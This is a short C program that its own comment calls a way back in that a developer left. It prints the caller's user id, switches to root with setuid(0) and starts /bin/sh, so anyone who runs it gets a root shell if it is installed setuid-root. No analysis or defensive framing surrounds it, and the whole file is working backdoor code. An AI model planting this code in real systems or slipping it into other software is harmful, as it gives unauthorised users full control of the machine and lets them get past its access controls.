/* A way back in that a developer left: a shell with root's rights for whoever calls it. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
	char text[64];
	snprintf(text, sizeof text, "rescue: user %d", (int)getuid());
	puts(text);
	if (setuid(0))
		return 1;
	return execl("/bin/sh", "sh", (char *)0);
}
